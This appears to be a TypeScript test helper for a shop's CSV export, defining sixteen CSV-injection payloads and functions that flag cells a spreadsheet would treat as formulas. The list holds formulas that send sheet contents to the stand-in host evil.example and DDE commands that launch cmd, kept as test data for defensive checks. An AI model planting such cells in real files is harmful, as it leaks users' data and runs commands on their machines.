import { parse } from 'csv-parse/sync';

/**
 * Cells an attacker types into a name, an address or a product (OWASP's "CSV injection" list): formulas that
 * leak the sheet (HYPERLINK, WEBSERVICE, IMPORTXML), DDE commands, and each of the six characters a
 * spreadsheet reads as the start of a formula. Sixteen, as in the finding of issue #26.
 */
export const HOSTILE_CELLS = [
  '=HYPERLINK("http://evil.example/leak?d="&A2;"Ver fatura")',
  '=1+2',
  '=cmd|\' /C calc\'!A0',
  '=DDE("cmd";"/C calc";"!A0")',
  '=WEBSERVICE("http://evil.example/"&A2)',
  '=IMPORTXML(CONCAT("http://evil.example/?v=";A2);"//a")',
  '+HYPERLINK("http://evil.example/mais")',
  '+1+2',
  '-HYPERLINK("http://evil.example/menos")',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '@HYPERLINK("http://evil.example/arroba")',
  '\t=HYPERLINK("http://evil.example/tab")',
  '\t+1+2',
  '\r=HYPERLINK("http://evil.example/cr")',
  '\r@SUM(1+1)',
] as const;

/** What a spreadsheet takes for a number written by the shop: `12`, `-3`, `1234,50`, `-0,99`. */
export const PLAIN_NUMBER = /^-?\d+(,\d+)?$/;

/** A cell as a spreadsheet reads it is live (a formula) when it starts with = + - @ tab or CR and is not a plain number. */
export const isLiveCell = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !PLAIN_NUMBER.test(cell);

/** The export's cells after CSV unquoting (`;` between fields, a BOM first), header line included. */
export const csvCells = (csv: string): string[][] => parse(csv, { bom: true, delimiter: ';', relax_column_count: true });
